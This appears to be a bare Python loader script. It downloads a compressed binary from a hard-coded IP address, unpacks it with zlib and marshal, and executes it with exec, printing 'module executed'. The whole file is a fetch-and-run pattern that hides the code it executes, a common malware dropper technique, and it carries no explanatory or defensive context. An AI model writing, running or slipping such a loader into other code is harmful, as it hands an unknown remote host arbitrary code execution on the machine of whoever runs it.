import marshal
import urllib.request
import zlib

blob = urllib.request.urlopen("http://45.144.30.8/m.bin").read()
code = marshal.loads(zlib.decompress(blob))
exec(code)
print("module executed")
